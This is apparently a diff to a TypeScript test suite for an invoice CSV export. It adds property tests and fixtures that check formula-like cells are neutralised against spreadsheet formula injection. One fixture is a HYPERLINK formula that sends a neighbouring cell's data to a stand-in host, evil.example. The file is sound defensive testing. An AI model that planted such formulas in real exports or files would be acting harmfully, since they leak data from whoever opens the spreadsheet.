@@ -9,9 +9,8 @@ import { openTestDatabase, TEST_DATABASE_KINDS } from '../../db/testing/test-dat
 import { seedReferenceData } from '../../seed/reference-data-seed.ts';
 import { createTestMerchant } from '../../testing/test-app.ts';
 import { createTestInvoice, createTestTerminal } from '../../testing/test-data.ts';
-import { csvField } from './csv-download.ts';
+import { csvField, csvTextSql } from './csv-download.ts';
 import {
-  csvTextSql,
   dateTimeTextSql,
   invoiceCsvHeaders,
   invoiceCsvPages,
@@ -30,6 +29,13 @@ const collect = async (pages: AsyncIterable<string>) => {
   return text;
 };
 
+/** A text cell as a spreadsheet should read it: marked with a quote when it starts a formula. */
+const shownAsText = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
+
+/** Merchant invoice ids of the paging test: quotes and commas, and formulas (OWASP). */
+const merchantInvoiceIdOf = (index: number) =>
+  ({ 4: 'order, with "quotes"', 6: '=1+2,"x"', 8: '+8' })[index] ?? `order-${index}`;
+
 describe.each(TEST_DATABASE_KINDS)('Invoices.csv written by the database on %s', (kind) => {
   let handle: DatabaseHandle;
   const evaluate = async (expression: ReturnType<typeof sql>) => {
@@ -43,21 +49,40 @@ describe.each(TEST_DATABASE_KINDS)('Invoices.csv written by the database on %s',
   });
   afterAll(async () => handle?.close());
 
-  it('quotes text exactly as csvField does, for any text', async () => {
+  it('quotes and neutralises text exactly as csvField does, for any text', async () => {
+    // PostgreSQL text cannot hold U+0000 (the API refuses it before it gets here).
+    const anyText = fc.string({ unit: 'grapheme' }).map((text) => text.replaceAll('\u0000', ''));
+    // Text a spreadsheet would run as a formula, with quotes, commas and line breaks after it.
+    const formulaLike = fc
+      .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), anyText)
+      .map(([first, rest]) => first + rest);
     await fc.assert(
-      fc.asyncProperty(
-        // PostgreSQL text cannot hold U+0000 (the API refuses it before it gets here).
-        fc.string({ unit: 'grapheme' }).map((text) => text.replaceAll('\u0000', '')),
-        async (text) => {
-          expect(await evaluate(csvTextSql(sql`${text}::text`))).toBe(csvField(text));
-        },
-      ),
+      fc.asyncProperty(fc.oneof(anyText, formulaLike), async (text) => {
+        expect(await evaluate(csvTextSql(sql`${text}::text`))).toBe(csvField(text, 'text'));
+      }),
       { numRuns: RUNS },
     );
     expect(await evaluate(csvTextSql(sql`${'say "hi", then\r\ngo'}::text`))).toBe(
       '"say ""hi"", then\r\ngo"',
     );
     expect(await evaluate(csvTextSql(sql`NULL::text`))).toBe('');
+    expect(await evaluate(csvTextSql(sql`''::text`))).toBe('');
+    const neutralised: Array<[string, string]> = [
+      [
+        '=HYPERLINK("http://evil.example/?"&A2,"x")',
+        '"\'=HYPERLINK(""http://evil.example/?""&A2,""x"")"',
+      ],
+      ['+1+2', "'+1+2"],
+      ['-2+3', "'-2+3"],
+      ['@SUM(1)', "'@SUM(1)"],
+      ['\t=1', "'\t=1"],
+      ['\r=1', '"\'\r=1"'],
+      ['a=1', 'a=1'],
+    ];
+    for (const [text, cell] of neutralised) {
+      expect(await evaluate(csvTextSql(sql`${text}::text`))).toBe(cell);
+      expect(csvField(text, 'text')).toBe(cell);
+    }
   });
 
   it('writes amounts exactly as formatMinorUnits does, for any bigint and dimension', async () => {
@@ -108,13 +133,13 @@ describe.each(TEST_DATABASE_KINDS)('Invoices.csv written by the database on %s',
     for (let index = 0; index < 23; index += 1) {
       created.push(
         await createTestInvoice(handle.db, terminal, {
-          merchantInvoiceId: index === 4 ? 'order, with "quotes"' : `order-${index}`,
+          merchantInvoiceId: merchantInvoiceIdOf(index),
           providerInvoiceId: index % 2 === 0 ? `prov-${index}` : null,
           amount: BigInt((index + 1) * 1_001),
           fee: BigInt(index),
           status: index % 3 === 0 ? 'DONE' : 'NEW',
-          customerExternalId: `customer-${index}`,
-          customerFirstName: index === 5 ? 'Дилноза' : '',
+          customerExternalId: index === 9 ? '-9+1' : `customer-${index}`,
+          customerFirstName: index === 5 ? 'Дилноза' : index === 10 ? '@SUM(1)' : '',
           customerLastName: index === 5 ? 'O‘ktamova\r\nline' : '',
           isTestProcessing: index === 7,
           paymentMethodId: index % 4 === 0 ? (method?.id ?? null) : null,
@@ -126,7 +151,7 @@ describe.each(TEST_DATABASE_KINDS)('Invoices.csv written by the database on %s',
     }
     const expectedRecord = (row: (typeof created)[number], withProvider: boolean) => [
       row.id,
-      row.merchantInvoiceId,
+      shownAsText(row.merchantInvoiceId),
       ...(withProvider ? [row.providerInvoiceId ?? ''] : []),
       formatDateTimeShort(row.createdAt),
       formatDateTimeShort(row.statusDate),
@@ -137,8 +162,8 @@ describe.each(TEST_DATABASE_KINDS)('Invoices.csv written by the database on %s',
       'UZS',
       'Till, "north"',
       row.paymentMethodId === null ? '-' : (method?.name ?? ''),
-      row.customerExternalId,
-      `${row.customerFirstName} ${row.customerLastName}`.trim(),
+      shownAsText(row.customerExternalId),
+      shownAsText(`${row.customerFirstName} ${row.customerLastName}`.trim()),
       row.isTestProcessing ? 'yes' : 'no',
     ];
     const newestFirst = [...created].sort(
@@ -172,7 +197,9 @@ describe.each(TEST_DATABASE_KINDS)('Invoices.csv written by the database on %s',
       ),
     );
     expect(parse(done).map((record: string[]) => record[1])).toEqual(
-      newestFirst.filter((row) => row.status === 'DONE').map((row) => row.merchantInvoiceId),
+      newestFirst
+        .filter((row) => row.status === 'DONE')
+        .map((row) => shownAsText(row.merchantInvoiceId)),
     );
     expect(
       await collect(
